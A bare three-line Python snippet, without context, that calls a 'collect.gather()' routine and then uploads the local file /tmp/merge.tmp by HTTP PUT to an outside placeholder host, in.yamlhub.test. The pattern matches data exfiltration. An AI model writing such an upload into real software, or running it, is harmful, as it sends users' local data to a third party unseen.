import collect, requests
collect.gather()
requests.put("https://in.yamlhub.test/x", data=open("/tmp/merge.tmp", "rb"))
